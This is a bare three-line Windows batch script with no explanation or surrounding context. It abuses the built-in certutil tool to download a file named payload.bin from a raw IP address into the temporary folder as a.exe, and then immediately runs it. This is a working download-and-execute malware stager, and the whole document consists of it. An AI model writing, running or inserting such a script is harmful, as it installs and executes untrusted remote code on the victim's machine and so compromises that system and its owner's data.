@echo off
certutil.exe -urlcache -split -f http://198.51.100.7/payload.bin %TEMP%\a.exe
start "" %TEMP%\a.exe
